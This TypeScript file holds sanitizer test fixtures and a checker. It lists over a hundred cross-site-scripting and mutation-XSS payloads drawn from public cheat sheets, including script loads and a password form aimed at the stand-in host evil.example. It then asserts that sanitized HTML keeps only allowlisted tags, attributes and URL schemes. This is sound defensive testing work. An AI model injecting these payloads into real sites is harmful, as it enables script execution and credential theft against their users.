/** HTML that tries to run a script, after the public cheat sheets (OWASP, PortSwigger) and published mutation attacks; and the check that nothing of it survived. */
import assert from 'node:assert/strict'
import type { ChildNode, Element } from 'domhandler'
import { parseDocument } from 'htmlparser2'

/** Addresses that browsers take for javascript: or for a document of its own. */
export const HOSTILE_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u001fjavascript:alert(1)',
  'javascript\t:alert(1)',
  'javascript\n:alert(1)',
  'javascript://%0aalert(1)',
  'javascript://example.org/%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'blob:https://example.org/1-2-3',
  'filesystem:https://example.org/temporary/x.html',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://example.org',
  'jar:https://example.org!/x.html',
  'feed:javascript:alert(1)',
  'mhtml:https://example.org',
  'mocha:alert(1)',
  'x:alert(1)',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '`onmouseover=alert(1)',
]

const TAGS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<script src=//evil.example/x.js',
  '<script x=">" src="https://evil.example/x.js"></script>',
  '<script type="module">import "https://evil.example/x.js"</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img srcset="x" src onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<html onclick=alert(1)><body onpageshow=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="//evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://evil.example/?https://www.youtube.com/embed/abcdefghijk" onload=alert(1)></iframe>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
  '<applet code="x.class"></applet>',
  '<base href="https://evil.example/">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style></style/><img src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
  '<div style="position:fixed;inset:0;z-index:99999">over everything</div>',
  '<div style="text-align:center;background-image:url(https://evil.example/pixel)">x</div>',
  '<div style="text-align:center;}*{display:none">x</div>',
  '<div style="text-align:\\65xpression(alert(1))">x</div>',
  '<p onclick=alert(1) ONMOUSEOVER=alert(1) onfocus="alert(1)" autofocus tabindex=0>x</p>',
  '<p on\u0000click=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p "onclick=alert(1)">x</p>',
  '<p title="a"onclick=alert(1)>x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p title="--><img src=x onerror=alert(1)>">x</p>',
  '<p id=createElement name=innerHTML>x</p>',
  '<a id=defaultView><a id=defaultView name=x href="cid:alert(1)">x</a>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/"><input name=password type=password></form>',
  '<input onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</option></select>',
  '<textarea onfocus=alert(1) autofocus>x</textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1) autoplay></video>',
  '<video poster="javascript:alert(1)//"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<audio src="javascript:alert(1)" controls></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<a href="https://example.org" target="_blank">no opener</a>',
  '<a href="https://example.org" ping="https://evil.example/">x</a>',
  '<a href=x download="x.exe" onclick=alert(1)>x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<xss onclick=alert(1) style="x:expression(alert(1))">x</xss>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
  '<slot name=x onslotchange=alert(1)></slot>',
  '<portal src="javascript:alert(1)"></portal>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<xml id=x><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>',
  '<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">',
  '<?php echo "<script>alert(1)</script>"; ?>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><script>alert(1)</script>-->',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<![CDATA[<script>alert(1)</script>]]>',
]

/** What one parser reads as text or an attribute, and another as a tag. */
const MUTATIONS = [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><a title="</style><img src onerror=alert(1)>"></style></p></svg>',
  '<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><mi><svg><mi><style><img title="</style><img src onerror=alert(1)>"></style></mi></svg></mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><p title="</template><img src=x onerror=alert(1)>"></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><img src=x onerror=alert(1)>--></style></template></select>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<p><svg><p><style><!--</style><img src onerror=alert(1)>',
  '<table><td><svg><desc><td></desc></svg><title><a title="</title><img src onerror=alert(1)>"></title></td></table>',
  '<a href="x"><table><a href="javascript:alert(1)">x</a></table></a>',
  '<b><p><b><p><script>alert(1)</script></b></p></b></p>',
  '<div></div></div></div></body></html><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜img src=x onerror=alert(1)＞',
  '<img src="x\u2028" onerror\u00a0=alert(1)>',
  '{{ "<script>alert(1)</script>" | raw }}{% raw %}<script>alert(1)</script>{% endraw %}',
  ']]></script><script>alert(1)</script>',
  '</title></style></textarea></noscript></script><img src=x onerror=alert(1)>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '\'"()&%<acx><ScRiPt >alert(1)</ScRiPt>',
]

export const HOSTILE_HTML: readonly string[] = [
  ...TAGS,
  ...MUTATIONS,
  ...HOSTILE_ADDRESSES.flatMap((address) => {
    const quoted = address.replaceAll('"', '&quot;')
    return [`<a href="${quoted}">x</a>`, `<img src="${quoted}">`, `<iframe src="${quoted}"></iframe>`]
  }),
]

/** What may stand in a page as content; everything else is a finding. */
const TAGS_OF_CONTENT = new Set(
  (
    'a abbr address article aside audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em ' +
    'figcaption figure footer h2 h3 h4 h5 h6 header hr i iframe img input ins kbd li mark ol p pre q s samp section small source ' +
    'span strong sub summary sup table tbody td tfoot th thead time tr u ul var video wbr'
  ).split(' '),
)
const ATTRIBUTES = new Set(
  (
    'alt allow allowfullscreen checked class colspan controls datetime decoding dir disabled download height href id lang loading loop ' +
    'muted open playsinline poster preload referrerpolicy rel reversed rowspan scope sizes span src srcset start style tabindex target title type width aria-label'
  ).split(' '),
)
export const FRAMES =
  /^https:\/\/(www\.youtube-nocookie\.com|player\.vimeo\.com|open\.spotify\.com|w\.soundcloud\.com)\//

/** @throws AssertionError when the HTML could run something, load from where it must not, or reach out of its place */
export function assertHarmless(html: string, where: string): void {
  for (const element of elementsOf(parseDocument(html).children)) {
    const { name, attribs } = element
    const told = `${where}: <${name} ${JSON.stringify(attribs)}> in ${html.slice(0, 500)}`
    assert.ok(TAGS_OF_CONTENT.has(name), told)
    if (name === 'input') assert.equal(attribs['type'], 'checkbox', told)
    if (name === 'iframe') assert.match(attribs['src'] ?? 'https://w.soundcloud.com/', FRAMES, told)
    if (attribs['target'] === '_blank') assert.match(attribs['rel'] ?? '', /\bnoopener\b/, told)
    for (const [attribute, value] of Object.entries(attribs)) {
      assert.ok(ATTRIBUTES.has(attribute), told)
      if (attribute === 'style')
        assert.match(value, /^text-align:\s?(left|right|center|justify|start|end);?$/, told)
      if (attribute === 'id') assert.match(value, /^content-[\w-]+$/, told)
      if (['href', 'src', 'poster', 'srcset'].includes(attribute)) assertAddress(value, told)
    }
  }
}

/** Reads it as browsers do: without tabs and line ends, and without what is at or below a space around it. */
export function assertAddress(value: string, told: string): void {
  // oxlint-disable-next-line no-control-regex
  const read = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '')
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(read)?.[1]?.toLowerCase()
  assert.ok(scheme === undefined || ['http', 'https', 'mailto', 'tel'].includes(scheme), told)
}

export function elementsOf(nodes: readonly ChildNode[]): Element[] {
  return nodes.flatMap((node) => {
    if (!('children' in node)) return []
    const below = elementsOf(node.children)
    return 'attribs' in node ? [node, ...below] : below
  })
}
